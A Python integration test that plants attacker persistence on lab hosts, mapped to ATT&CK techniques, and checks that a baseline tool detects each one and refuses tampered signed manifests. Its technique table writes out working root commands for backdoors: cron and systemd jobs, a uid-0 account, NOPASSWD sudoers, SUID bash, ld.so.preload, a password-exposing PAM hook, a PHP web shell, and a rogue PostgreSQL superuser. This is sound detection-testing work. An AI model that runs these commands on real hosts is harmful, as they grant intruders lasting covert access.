"""Known-good baselines on real lab hosts: a fresh build verifies clean, planted persistence is found, a tampered
baseline is refused (issue 6, docs/baselines.md).

A small estate piece in a zone of its own (tests/integration/inventories/baseline: bridge enp-it-bl,
198.18.85.0/24): a web server built with the project's roles (pki + nginx) and a PostgreSQL 15 primary from the
signed mirror with a small civic schema (tests/integration/playbooks/baseline_services.yml; the full
roles/postgresql costs about 2 minutes more than the CI budget allows). In order:

* `enp baseline capture` records and signs both hosts' manifests into the test's own store (ENP_LAB_DIR and
  --store under the test's temporary folder);
* `enp baseline verify` right after: exit 0, zero findings on both hosts (noise is the role's rules' job);
* an attacker plants persistence and tampering the way intruders do on Linux web and database servers (the
  TECHNIQUES table, with ATT&CK ids);
* `enp baseline verify --json` exits 1 and lists, for EVERY technique, a finding of the expected section, kind and
  severity; `--summary` prints the compact one-line-per-host summary the JSON report carries;
* one byte of a stored signed manifest is changed and another's signature removed: verify refuses both (exit 2);
* lab-down leaves nothing behind.

test_the_check_names_what_was_missed (no lab) shows the table's verdicts fail, naming the technique, when one is
not detected or is misclassified.

Techniques the role's defaults cannot see would be listed in GAPS (planted too, and required to stay unfound, so a
gap shows in every run's table and the test says when it closes); it is empty now.

Run: pytest -q -s -m integration tests/integration/test_baseline_persistence.py (prints the technique table).
"""

from __future__ import annotations

import concurrent.futures
import fnmatch
import json
import os
import pathlib
import subprocess
import time
from dataclasses import dataclass

import pytest
from ansible.module_utils.enp_lab import isolation_table_name

from .labstate import diff, snapshot
from .test_zone_firewall import other_labs_running

pytestmark = pytest.mark.integration

PROJECT = pathlib.Path(__file__).resolve().parents[2]
HERE = pathlib.Path(__file__).resolve().parent
INVENTORY = str(HERE / "inventories" / "baseline")
SERVICES = str(HERE / "playbooks" / "baseline_services.yml")
BIN = pathlib.Path(os.environ.get("VIRTUAL_ENV", PROJECT / ".venv")) / "bin"
ADDRESS = {"bl-web1": "198.18.85.11", "bl-db1": "198.18.85.31"}
HOSTS = tuple(ADDRESS)
BIND_PORT = 31337


@dataclass(frozen=True)
class Technique:
    """One attacker technique: how it is planted (shell, as root on the host) and the finding it must give."""

    name: str
    attack: str  # MITRE ATT&CK technique id
    host: str
    section: str
    key: str  # the finding's key (fnmatch glob)
    kind: str
    severity: str
    plant: str


def _sql(statements: str) -> str:
    return f"runuser -u postgres -- psql -X -q -v ON_ERROR_STOP=1 -d civic <<'SQL'\n{statements}\nSQL"


# The attacker's SSH key: made on the controller per run (the finding names its fingerprint).
ATTACKER_KEY = "@ATTACKER_KEY@"

# A bind shell stand-in: listens where an attacker's would and closes every connection (no shell is offered, even
# inside the lab), started as a transient unit like `systemd-run` in a hands-on-keyboard intrusion.
BIND_SHELL = (
    "import socket\n"
    "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
    f"s.bind(('0.0.0.0', {BIND_PORT})); s.listen(5)\n"
    "while True:\n    s.accept()[0].close()\n"
)

WEB, DB = "bl-web1", "bl-db1"
TECHNIQUES: tuple[Technique, ...] = (
    Technique(
        "cron job in /etc/cron.d",
        "T1053.003",
        WEB,
        "cron",
        "/etc/cron.d/dbus-sync",
        "new-persistence",
        "critical",
        "printf '#!/bin/sh\\nexec /bin/sh -c true\\n' > /usr/local/sbin/dbus-sync\n"
        "chmod 0755 /usr/local/sbin/dbus-sync\n"
        "printf '*/5 * * * * root /usr/local/sbin/dbus-sync >/dev/null 2>&1\\n' > /etc/cron.d/dbus-sync",
    ),
    Technique(
        "crontab of the web server's account",
        "T1053.003",
        WEB,
        "cron",
        "/var/spool/cron/crontabs/www-data",
        "new-persistence",
        "critical",
        "install -d -m 1730 /var/spool/cron/crontabs\n"
        "printf '@reboot /bin/sh -c true\\n' > /var/spool/cron/crontabs/www-data\n"
        "chown www-data /var/spool/cron/crontabs/www-data && chmod 0600 /var/spool/cron/crontabs/www-data",
    ),
    Technique(
        "systemd service + timer, enabled",
        "T1053.006",
        WEB,
        "units",
        "dbus-update.timer",
        "new-persistence",
        "critical",
        "printf '[Unit]\\nDescription=D-Bus update\\n[Service]\\nType=oneshot\\nExecStart=/usr/local/sbin/dbus-sync\\n'"
        " > /etc/systemd/system/dbus-update.service\n"
        "printf '[Unit]\\nDescription=D-Bus update\\n[Timer]\\nOnBootSec=5min\\nOnUnitActiveSec=1h\\n"
        "[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/dbus-update.timer\n"
        "systemctl daemon-reload && systemctl enable --quiet dbus-update.timer",
    ),
    Technique(
        "SSH key added to root's authorized_keys",
        "T1098.004",
        WEB,
        "authorized_keys",
        "/root/.ssh/authorized_keys",
        "new-key",
        "critical",
        f"install -d -m 0700 /root/.ssh && echo '{ATTACKER_KEY}' >> /root/.ssh/authorized_keys"
        " && chmod 0600 /root/.ssh/authorized_keys",
    ),
    Technique(
        "second uid-0 account",
        "T1136.001",
        WEB,
        "users",
        "sysupdate",
        "new-account",
        "critical",
        "useradd --non-unique --uid 0 --gid 0 --no-create-home --home-dir /root --shell /bin/bash sysupdate",
    ),
    Technique(
        "sudoers drop-in (NOPASSWD for www-data)",
        "T1548.003",
        WEB,
        "sudoers",
        "/etc/sudoers.d/90-www-cache",
        "config-drift",
        "critical",
        "echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-www-cache\nchmod 0440 /etc/sudoers.d/90-www-cache",
    ),
    Technique(
        "SUID copy of bash in /usr/local/bin",
        "T1548.001",
        WEB,
        "suid",
        "/usr/local/bin/.sshd-helper",
        "suid-added",
        "critical",
        "cp /bin/bash /usr/local/bin/.sshd-helper && chmod 4755 /usr/local/bin/.sshd-helper",
    ),
    Technique(
        "/etc/ld.so.preload pointing to a library",
        "T1574.006",
        WEB,
        "preload",
        "/etc/ld.so.preload",
        "new-persistence",
        "critical",
        # A real, harmless library, so every process on the host keeps working.
        "cp /usr/lib/x86_64-linux-gnu/libdl.so.2 /usr/local/lib/libsysd.so.1\n"
        "echo /usr/local/lib/libsysd.so.1 > /etc/ld.so.preload",
    ),
    Technique(
        "login script in /etc/profile.d",
        "T1546.004",
        WEB,
        "files",
        "/etc/profile.d/bash-completion-cache.sh",
        "new-persistence",
        "critical",
        "echo '(/usr/local/sbin/dbus-sync &) >/dev/null 2>&1' > /etc/profile.d/bash-completion-cache.sh",
    ),
    Technique(
        "root's .bashrc backdoor",
        "T1546.004",
        WEB,
        "files",
        "/root/.bashrc",
        "new-persistence",
        "critical",
        "echo 'alias sudo=\"/usr/local/sbin/dbus-sync; sudo\"' >> /root/.bashrc",
    ),
    Technique(
        "pam_exec line in /etc/pam.d/common-auth",
        "T1556.003",
        WEB,
        "pam",
        "/etc/pam.d/common-auth",
        "config-drift",
        "critical",
        # optional + a script that always succeeds: logins keep working, passwords would be logged.
        "printf '#!/bin/sh\\nexit 0\\n' > /usr/local/lib/.pam-cache && chmod 0755 /usr/local/lib/.pam-cache\n"
        "sed -i '1i auth optional pam_exec.so quiet expose_authtok /usr/local/lib/.pam-cache' /etc/pam.d/common-auth",
    ),
    Technique(
        f"bind-shell listener (python3 on :{BIND_PORT}, transient unit)",
        "T1059.006",
        WEB,
        "listeners",
        f"tcp:0.0.0.0:{BIND_PORT}",
        "new-listener",
        "high",
        f'systemd-run --quiet --unit=systemd-netlogd --property=Restart=no /usr/bin/python3 -c "{BIND_SHELL}"\n'
        f"for i in $(seq 100); do ss -Hltn | grep -q ':{BIND_PORT} ' && exit 0; sleep 0.1; done; exit 1",
    ),
    Technique(
        "trojaned binary (/usr/bin/hostname, mtime put back)",
        "T1554",
        WEB,
        "files",
        "/usr/bin/hostname",
        "file-modified",
        "high",
        "cp -p /usr/bin/hostname /tmp/.hn && printf '\\0enp-trojan' >> /usr/bin/hostname"
        " && touch -r /tmp/.hn /usr/bin/hostname && rm -f /tmp/.hn",
    ),
    Technique(
        "APT hook in /etc/apt/apt.conf.d",
        "T1546",
        WEB,
        "files",
        "/etc/apt/apt.conf.d/01-dpkg-cache",
        "new-persistence",
        "critical",
        "echo 'APT::Update::Pre-Invoke {\"/usr/local/sbin/dbus-sync || true\";};' > /etc/apt/apt.conf.d/01-dpkg-cache",
    ),
    Technique(
        "udev rule with RUN+=",
        "T1546",
        WEB,
        "files",
        "/etc/udev/rules.d/75-net-cache.rules",
        "new-persistence",
        "critical",
        'install -d /etc/udev/rules.d && echo \'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/local/sbin/dbus-sync"\''
        " > /etc/udev/rules.d/75-net-cache.rules",
    ),
    Technique(
        "nginx configuration drift (exposes /var/tmp)",
        "T1505",
        WEB,
        "nginx",
        "/etc/nginx/nginx.conf",
        "config-drift",
        "medium",
        # Not reloaded: the running site stays as it is, the file on disk is what a restart would load.
        "sed -i '0,/^http {/s//http {\\n    server { listen 8081; location \\/ { root \\/var\\/tmp; autoindex on; } }/'"
        " /etc/nginx/nginx.conf && grep -q 'listen 8081' /etc/nginx/nginx.conf",
    ),
    Technique(
        "PostgreSQL: new superuser role",
        "T1136",
        DB,
        "postgresql",
        "role:maint_svc",
        "db-role-added",
        "critical",
        _sql("CREATE ROLE maint_svc LOGIN SUPERUSER PASSWORD 'Winter2026!';"),
    ),
    Technique(
        "PostgreSQL: function (code in the database)",
        "T1546",
        DB,
        "postgresql",
        "function:civic/civic.payments_audit()",
        "db-object-changed",
        "high",
        _sql(
            "CREATE TABLE public.pay_cache (id bigint, data text);\n"
            "CREATE FUNCTION civic.payments_audit() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$\n"
            "BEGIN INSERT INTO public.pay_cache VALUES (NEW.id, row_to_json(NEW)::text); RETURN NEW; END $$;"
        ),
    ),
    Technique(
        "PostgreSQL: trigger on a table (copies payments)",
        "T1546",
        DB,
        "postgresql",
        "trigger:civic/civic.payments.payments_audit",
        "db-object-changed",
        "high",
        _sql(
            "CREATE TRIGGER payments_audit AFTER INSERT ON civic.payments"
            " FOR EACH ROW EXECUTE FUNCTION civic.payments_audit();"
        ),
    ),
    Technique(
        "PostgreSQL: pg_hba.conf trust line",
        "T1556",
        DB,
        "postgresql",
        "hba",
        "config-drift",
        "high",
        # Not reloaded: what the file says is what the next reload trusts.
        "echo 'host all all 198.18.85.0/24 trust' >> \"$(runuser -u postgres -- psql -XAtc 'SHOW hba_file')\"",
    ),
    Technique(
        "SSH key for the postgres account (after a COPY ... PROGRAM)",
        "T1098.004",
        DB,
        "authorized_keys",
        "/var/lib/postgresql/.ssh/authorized_keys",
        "new-key",
        "critical",
        # Inside the PostgreSQL data tree's parent, which the files noise rules skip: the keys section must not.
        "install -d -m 0700 -o postgres -g postgres /var/lib/postgresql/.ssh\n"
        f"echo '{ATTACKER_KEY}' > /var/lib/postgresql/.ssh/authorized_keys\n"
        "chown postgres:postgres /var/lib/postgresql/.ssh/authorized_keys",
    ),
    Technique(
        "SUID copy of bash in /var/tmp",
        "T1548.001",
        DB,
        "suid",
        "/var/tmp/.X11-cache",
        "suid-added",
        "critical",
        "cp /bin/bash /var/tmp/.X11-cache && chmod 4755 /var/tmp/.X11-cache",
    ),
    Technique(
        "web shell in nginx's document root",
        "T1505.003",
        WEB,
        "files",
        "/var/www/html/.status.php",
        "file-added",
        "high",
        "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/.status.php",
    ),
)

# Known detection gaps of the role's defaults: planted like the techniques above, and the test requires that they
# are still NOT found, so a gap shows in every run's table (and the day it is closed the test says to move it into
# TECHNIQUES). Empty since roles/baseline scans /var/www and /srv and sweeps / for setuid files (both were gaps).
GAPS: tuple[tuple[Technique, str], ...] = ()


def environment(state_dir: pathlib.Path) -> dict[str, str]:
    return dict(
        os.environ,
        PATH=f"{BIN}:{os.environ.get('PATH', os.defpath)}",
        ANSIBLE_CONFIG=str(PROJECT / "ansible.cfg"),
        ENP_LAB_DIR=str(state_dir),
        # Facts of these throwaway hosts stay with the test, not in the project's .cache/facts.
        ANSIBLE_CACHE_PLUGIN_CONNECTION=str(state_dir.parent / "facts"),
        ANSIBLE_DEPRECATION_WARNINGS="False",
        ANSIBLE_NOCOLOR="1",
    )


def playbook(args: list[str], state_dir: pathlib.Path, check: bool = True) -> str:
    proc = subprocess.run(
        [str(BIN / "ansible-playbook"), "-i", INVENTORY, *args],
        cwd=PROJECT,
        env=environment(state_dir),
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
    )
    if check and proc.returncode != 0:
        pytest.fail(f"{' '.join(args)} failed rc={proc.returncode}\n{proc.stdout[-6000:]}\n{proc.stderr[-2000:]}")
    return proc.stdout


def enp(args: list[str], state_dir: pathlib.Path, store: pathlib.Path) -> subprocess.CompletedProcess:
    """The enp CLI as an operator runs it, with the test's own store (and, through ENP_LAB_DIR, its own lab key)."""
    return subprocess.run(
        [str(BIN / "enp"), "baseline", *args, "-i", INVENTORY, "--store", str(store)],
        cwd=PROJECT,
        env=environment(state_dir),
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )


def show(proc: subprocess.CompletedProcess) -> str:
    return f"rc={proc.returncode}\n--- stdout\n{proc.stdout[-8000:]}\n--- stderr\n{proc.stderr[-4000:]}"


def ssh(state_dir: pathlib.Path, host: str, command: str, stdin: str = "") -> str:
    argv = [
        "ssh",
        "-i",
        str(state_dir / "ssh" / "id_ed25519"),
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "BatchMode=yes",
        "-o",
        "ConnectTimeout=5",
        "-o",
        "LogLevel=ERROR",
        f"enp@{ADDRESS[host]}",
        command,
    ]
    proc = subprocess.run(argv, input=stdin, capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 0, f"{host}: {command!r} failed rc={proc.returncode}: {proc.stderr.strip()}"
    return proc.stdout


def plant(state_dir: pathlib.Path, techniques: list[Technique], attacker_key: str) -> None:
    """Every technique of a host in one root shell on that host (set -e: a plant that fails fails the test)."""
    by_host: dict[str, list[Technique]] = {}
    for technique in techniques:
        by_host.setdefault(technique.host, []).append(technique)

    def on(host: str) -> str:
        script = "set -eu\n" + "\n".join(
            f"# {t.name}\n( {t.plant.replace(ATTACKER_KEY, attacker_key)}\n)" for t in by_host[host]
        )
        return ssh(state_dir, host, "sudo sh -s", stdin=script + "\n")

    with concurrent.futures.ThreadPoolExecutor(len(by_host)) as pool:
        list(pool.map(on, by_host))


def attacker_key(tmp_path: pathlib.Path) -> str:
    key = tmp_path / "attacker_ed25519"
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "x@kali", "-f", str(key)], check=True, timeout=30
    )
    return key.with_name(key.name + ".pub").read_text().strip()


def match(technique: Technique, findings: list[dict]) -> dict | None:
    """The finding of a technique: same host report, same section, key matching."""
    for finding in findings:
        if finding["section"] == technique.section and fnmatch.fnmatchcase(finding["key"], technique.key):
            return finding
    return None


def table(rows: list[tuple[str, ...]]) -> str:
    header = ("technique", "ATT&CK", "host", "section / key", "expected", "found?", "got", "ok")
    widths = [max(len(str(r[i])) for r in [header, *rows]) for i in range(len(header))]
    lines = ["  ".join(str(c).ljust(w) for c, w in zip(r, widths, strict=True)).rstrip() for r in [header, *rows]]
    lines.insert(1, "  ".join("-" * w for w in widths))
    return "\n".join(lines)


def verdicts(
    reports: dict[str, dict], techniques: tuple[Technique, ...], gaps: tuple[tuple[Technique, str], ...]
) -> tuple[list[tuple[str, ...]], list[str]]:
    """One table row per technique (and known gap), and the problems: a technique not found or misclassified, a gap
    that is now found (move it into TECHNIQUES)."""
    rows, problems = [], []
    for technique in (*techniques, *(g for g, _ in gaps)):
        gap = dict((g, why) for g, why in gaps).get(technique)
        finding = match(technique, reports[technique.host]["findings"])
        expected = f"{technique.kind}/{technique.severity}"
        got = f"{finding['kind']}/{finding['severity']}" if finding else "-"
        if gap is not None:
            ok = finding is None
            found = "yes" if finding else "no: known gap"
            if not ok:
                problems.append(f"{technique.name}: the known gap is closed ({got}); move it into TECHNIQUES")
        else:
            ok = finding is not None and got == expected
            found = "yes" if finding else "NO"
            if finding is None:
                problems.append(
                    f"{technique.name} ({technique.attack}) on {technique.host}: NOT DETECTED, no finding in section "
                    f"{technique.section} with key {technique.key}"
                )
            elif not ok:
                problems.append(
                    f"{technique.name} on {technique.host}: found as {got}, expected {expected} ({finding['reason']})"
                )
        where = f"{technique.section} {technique.key}"
        rows.append(
            (technique.name, technique.attack, technique.host, where, expected, found, got, "ok" if ok else "FAIL")
        )
    return rows, problems


def tamper_one_byte(manifest: pathlib.Path) -> str:
    """Change one hex digit of the recorded sha256 of /usr/bin/hostname (what an intruder who trojaned it would want
    the baseline to say); the file stays valid JSON, so only the signature can tell."""
    data = bytearray(manifest.read_bytes())
    anchor = data.find(b'"/usr/bin/hostname":{')
    assert anchor > 0, f"{manifest} has no /usr/bin/hostname entry"
    index = data.find(b'"sha256":"', anchor) + len(b'"sha256":"')
    data[index] = ord("0") if data[index] != ord("0") else ord("1")
    manifest.write_bytes(bytes(data))
    json.loads(data)
    return f"byte {index} of {manifest.name}"


def markers(state_dir: pathlib.Path) -> list[str]:
    return [str(state_dir), "198.18.85.", "enp-it-bl", "vb-bl-", *HOSTS, isolation_table_name(str(state_dir))]


@pytest.fixture(scope="module")
def root_required() -> None:
    if os.geteuid() != 0:
        pytest.skip("the lab needs root (bridges, overlay mounts, systemd-nspawn)")


def test_planted_persistence_is_found_and_tampered_baselines_refused(
    root_required: None, tmp_path: pathlib.Path
) -> None:
    state_dir, store = tmp_path / "lab", tmp_path / "baselines" / "store"
    started = time.monotonic()

    def mark(what: str) -> None:
        print(f"[baseline-persistence] {what} at {time.monotonic() - started:.0f} s")

    key = attacker_key(tmp_path)
    before = snapshot()
    try:
        print()
        playbook(["playbooks/lab_up.yml"], state_dir)
        mark("lab up (2 hosts)")
        playbook([SERVICES], state_dir)
        mark("services built (pki + nginx; PostgreSQL + schema)")

        captured = enp(["capture"], state_dir, store)
        assert captured.returncode == 0, f"enp baseline capture must succeed:\n{show(captured)}"
        for host in HOSTS:
            assert (store / f"{host}.json").is_file() and (store / f"{host}.json.sig").is_file(), host
        assert (state_dir / "baseline" / "signing_key").is_file(), "the lab key belongs in the test's ENP_LAB_DIR"
        print(captured.stdout.strip())
        mark("baselines captured and signed")

        clean = enp(["verify"], state_dir, store)
        assert clean.returncode == 0, f"a freshly built host must verify clean (noise rules?):\n{show(clean)}"
        for host in HOSTS:
            assert f"{host}: clean (0 findings)" in clean.stdout, show(clean)
        mark("verify on the fresh build: clean, 0 findings")

        plant(state_dir, [*TECHNIQUES, *(g for g, _ in GAPS)], key)
        mark(f"{len(TECHNIQUES)} techniques (+{len(GAPS)} known gaps) planted")

        dirty = enp(["verify", "--json"], state_dir, store)
        assert dirty.returncode == 1, f"verify must exit 1 on hosts with findings:\n{show(dirty)}"
        document = json.loads(dirty.stdout)
        assert document["command"] == "baseline verify" and document["exit_code"] == 1, document.get("exit_code")
        assert pathlib.Path(document["report_dir"]).parent == store.parent / "reports", document["report_dir"]
        reports = document["reports"]
        assert set(reports) == set(HOSTS) and all(reports[h] for h in HOSTS), sorted(reports)
        rows, problems = verdicts(reports, TECHNIQUES, GAPS)
        report = table(rows) + "".join(f"\n  known gap, {g.name}: {why}" for g, why in GAPS)
        print(f"\n{report}\n")
        for host in HOSTS:
            print(f"  {reports[host]['summary_line']}")
        assert not problems, "planted techniques not reported as expected:\n- " + "\n- ".join(problems) + f"\n{report}"
        summary = document["summary"]
        assert summary["hosts"] == 2 and summary["hosts_clean"] == 0 and not summary["clean"], summary
        assert summary["total"] == sum(len(reports[h]["findings"]) for h in HOSTS) >= len(TECHNIQUES), summary
        mark(f"verify --json: exit 1, every technique found ({summary['total']} findings in all)")

        compact = enp(["verify", "--summary"], state_dir, store)
        assert compact.returncode == 1, show(compact)
        for host in HOSTS:
            line = reports[host]["summary_line"]
            assert line.startswith(f"{host}: ") and "findings (critical" in line, line
            # Counts come from a new live capture, so the same findings give the same line.
            assert line in compact.stdout.splitlines(), f"summary line {line!r} missing:\n{show(compact)}"
        mark("verify --summary: the compact lines")

        what = tamper_one_byte(store / f"{WEB}.json")
        (store / f"{DB}.json.sig").unlink()
        refused = enp(["verify"], state_dir, store)
        assert refused.returncode == 2, f"a tampered or unsigned baseline must be refused (exit 2):\n{show(refused)}"
        assert f"{WEB}: REFUSED" in refused.stdout and "the signature does not verify" in refused.stdout, show(refused)
        assert f"{DB}: REFUSED" in refused.stdout and "has no signature" in refused.stdout, show(refused)
        assert "2 baseline(s) REFUSED" in refused.stdout, show(refused)
        mark(f"tampered manifest ({what}) and unsigned manifest: verify refused both, exit 2")
    finally:
        playbook(["playbooks/lab_down.yml", "-e", "enp_lab_down_confirm=down"], state_dir, check=False)
    left = diff(before, snapshot(), markers(state_dir))
    if other_labs_running():
        # The inotify limit is machine-wide: the last lab down restores it (as in test_zone_firewall.py).
        left.pop("inotify", None)
    assert left == {}, f"teardown left things behind: {left}"
    mark("lab down, nothing left behind; total")


def test_the_check_names_what_was_missed() -> None:
    """No lab needed: the verdicts fail, naming the technique, when one is not detected or misclassified, and when a
    known gap starts being found (so the planted-persistence test above can fail, and says why)."""

    def finding(t: Technique, kind: str = "", severity: str = "") -> dict:
        return {"section": t.section, "key": t.key, "kind": kind or t.kind, "severity": severity or t.severity}

    missed, downgraded, rest = TECHNIQUES[0], TECHNIQUES[1], TECHNIQUES[2:]
    gap = Technique("SUID shell in /dev/shm", "T1548.001", WEB, "suid", "/dev/shm/.x", "suid-added", "critical", ":")
    gaps = (*GAPS, (gap, "not scanned"))
    reports: dict[str, dict] = {host: {"findings": []} for host in HOSTS}
    for t in rest:
        reports[t.host]["findings"].append(finding(t))
    reports[downgraded.host]["findings"].append({**finding(downgraded, severity="low"), "reason": "x"})
    reports[gap.host]["findings"].append(finding(gap))
    rows, problems = verdicts(reports, TECHNIQUES, gaps)
    assert len(rows) == len(TECHNIQUES) + len(gaps)
    assert [r[0] for r in rows if r[-1] == "FAIL"] == [missed.name, downgraded.name, gap.name]
    assert len(problems) == 3
    assert missed.name in problems[0] and "NOT DETECTED" in problems[0] and missed.key in problems[0]
    assert downgraded.name in problems[1] and f"expected {downgraded.kind}/{downgraded.severity}" in problems[1]
    assert gap.name in problems[2] and "move it into TECHNIQUES" in problems[2]
    assert len({t.name for t in TECHNIQUES}) == len(TECHNIQUES) >= 10
